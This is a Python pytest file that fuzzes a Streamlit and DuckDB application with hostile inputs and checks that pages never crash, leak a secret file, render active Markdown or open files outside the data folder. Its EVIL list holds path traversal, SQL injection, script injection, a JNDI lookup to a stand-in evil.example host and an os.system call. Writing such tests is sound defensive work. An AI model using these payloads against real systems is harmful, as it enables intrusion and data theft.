"""Whatever stands in an address, in a store's names or in a command: no crash, no traceback, no file of anybody else's.

Files and images that are no good are generated in `tests/train/malformed`: with those, more than 1,000 inputs.
"""

import json
import random
import re
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

import duckdb
import pytest
from streamlit.testing.v1 import AppTest

from rnc.store.reader import StoreReader
from rnc.store.writer import StoreWriter
from tests.architecture import python_files
from tests.conftest import ROOT
from tests.pages.app import open_page
from tests.pages.test_pages import PAGES
from tests.rnc.store.hand_written import begin, one_epoch
from tests.security.watch import opened, outside
from train.run import parse

SECRET = "the contents of a file that nobody may see"
KEYS = sorted({key for path in python_files() for key in re.findall(r'key=f?"(\w+)"', path.read_text())})
EVIL = [
    "../../../../etc/passwd", "/etc/passwd", "{secret}", "file://{secret}", "' OR 1=1 --", "'; DROP TABLE run; --",
    "x') UNION ALL SELECT content FROM read_text('{secret}') --", "read_text('{secret}')", "\\'; COPY run TO '{secret}'; --",
    "<script>alert(1)</script>", "<img src=http://evil.example/x.png>", "![x](http://evil.example/x.png)",
    "[x](javascript:alert(1))", "[x](http://evil.example)", ":red[x]", "$x$", "`x`", "**x**", "\x00", "%00", "a" * 50_000,
    "NaN", "-1", "1e999", "9" * 40, "-0", "[]", "{{}}", "null", "true", "", " ", "\u202e\u0000\uffff", "\U0001f600" * 500,
    "{{{{7*7}}}}", "${{jndi:ldap://evil.example/x}}", "\r\nSet-Cookie: x=1", "__import__('os').system('id')", "\n# x\n",
    "digits-small_cnn-st-linf-s1-00000000", "clean", "train", "last", "0", "1,2,3",
]  # fmt: skip


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A file outside the data folder."""
    path = tmp_path / "secret.txt"
    path.write_text(SECRET)
    return path


@pytest.fixture(scope="module")
def content(tiny_store: Path) -> bytes:
    """Of a store with a run."""
    return tiny_store.read_bytes()


@pytest.fixture
def data(tmp_path: Path, secret: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """The data folder; around it nothing may change, and nothing else may be opened."""
    monkeypatch.setenv("RNC_LOG", str(tmp_path / "data" / "rnc.log"))
    folder = tmp_path / "data"
    folder.mkdir()
    with opened() as heard:
        yield folder
    assert outside(heard, folder) == []
    assert heard, "the watch hears nothing"
    assert secret.read_text() == SECRET and {path.name for path in tmp_path.iterdir()} == {"secret.txt", "data"}


def evil(generator: random.Random, secret: Path) -> str:
    """One of the texts above, or what comes of cutting and joining two."""
    first, second = (text.format(secret=secret) for text in generator.choices(EVIL, k=2))
    cut = generator.randrange(len(first) + 1)
    return first if generator.random() < 0.6 else first[:cut] + second


def assert_harmless(app: AppTest) -> None:
    """Assert that the browser is sent no secret, and no Markdown of strangers that does something."""
    for element in app._tree:
        proto = getattr(element, "proto", None)
        sent = proto.SerializeToString() if hasattr(proto, "SerializeToString") else b""
        assert SECRET.encode() not in sent and b"Traceback" not in sent
    for kind in (app.markdown, app.caption, app.info, app.warning, app.error, app.subheader, app.title):
        for element in kind:
            read = re.sub(r"(`+)(?:.|\n)*?\1", "", re.sub(r"\\.", "", element.value))
            assert not re.search(r"\]\(|<script|<img|:red\[", read), element.value[:300]


def test_there_are_enough() -> None:
    assert len(KEYS) > 40 and len(PAGES) * ROUNDS * len(KEYS) > 500


ROUNDS = 3


@pytest.mark.parametrize("page", PAGES)
def test_addresses(page: str, content: bytes, data: Path, secret: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    store = data / "rnc.duckdb"
    store.write_bytes(content)
    before, (run_id,) = store.read_bytes(), StoreReader(store).runs.all()["run_id"]
    for turn in range(ROUNDS):
        generator = random.Random(f"{page} {turn}")
        asked = {key: evil(generator, secret) for key in KEYS}
        if turn:  # (otherwise nothing is looked at but the sidebar)
            asked |= {"runs": run_id, "condition": "perturbed", "split": "test"}
        assert_harmless(open_page(page, store, monkeypatch, **asked))
    assert store.read_bytes() == before


@pytest.mark.parametrize("page", PAGES)
def test_names_in_a_store(page: str, data: Path, secret: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A store of somebody else's: runs, data sets, networks, conditions, titles and kept results as they please."""
    store, generator = data / "rnc.duckdb", random.Random(page)
    names = [evil(generator, secret) + str(number) for number in range(4)]
    for number, name in enumerate(names):
        fields = {field: evil(generator, secret) for field in ("dataset", "model", "norm")}
        begin(store, name, **fields, width=1.0, subset=0, seed=number).write_epoch(name, 0, one_epoch(name, 0))
        StoreWriter(store).save_lab_result(
            name[:200], name, json.dumps(evil(generator, secret)), json.dumps(name), name.encode()
        )
    with duckdb.connect(str(store)) as connection:
        connection.execute(
            "UPDATE run SET error = $x, git_commit = $x, device = $x, classes = [$x, $x || '1']", {"x": names[0]}
        )
        connection.execute("INSERT INTO checkpoint SELECT run_id, 0, $path, 'x' FROM run", {"path": str(secret)})
        connection.execute(
            "UPDATE run_condition SET role = 'extra', condition = $x WHERE role = 'targeted'", {"x": names[1]}
        )
        connection.execute("UPDATE condition SET condition = $x WHERE target_rule IS NOT NULL", {"x": names[1]})
    for chosen in (names, names[:1]):
        assert_harmless(open_page(page, store, monkeypatch, runs=chosen, lab_kept=names[0][:12]))


CONFIGS = [
    "{}",
    "[]",
    "null",
    "1",
    '"x"',
    '{"dataset": 3}',
    '{"epochs": "many"}',
    "not json",
    '{"seed": [[[[]]]]}',
    "[" * 5000,
]


@pytest.mark.parametrize("config", CONFIGS, ids=range(len(CONFIGS)))
def test_a_run_with_an_invalid_config_is_named(config: str, data: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    store = data / "rnc.duckdb"
    begin(store, "bad").write_epoch("bad", 0, one_epoch("bad", 0))
    with duckdb.connect(str(store)) as connection:
        connection.execute("ALTER TABLE run ALTER config TYPE VARCHAR")
        connection.execute("UPDATE run SET config = ?", [config])
    app = open_page("runs", store, monkeypatch)
    assert "run bad has a config that makes no sense" in app.error[0].value.replace("\\", "")


@contextmanager
def exits_with_2() -> Iterator[None]:
    """The block may end by the exit code of a wrong request, and by no other."""
    try:
        yield
    except SystemExit as refusal:
        if refusal.code != 2:
            raise


def test_fields_of_a_command(data: Path, secret: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """200 of them: taken as a value that is checked, or refused in words."""
    generator = random.Random(1)
    flags = [f"--{name}" for name in (
        "epochs", "seed", "epsilon", "norm", "objective", "model", "dataset", "batch-size", "learning-rate", "milestones",
        "measured-epochs", "width", "subset", "steps", "step-size", "time-limit", "device", "data-root", "store",
    )]  # fmt: skip
    for _turn in range(200):
        with suppress(ValueError), exits_with_2():
            assert all(command.config.run_id for command in parse([generator.choice(flags), evil(generator, secret)]))
    assert "Traceback" not in capsys.readouterr().err
    assert list(data.iterdir()) == []
    (ROOT / "README.md").read_text()  # (something that the watch hears)
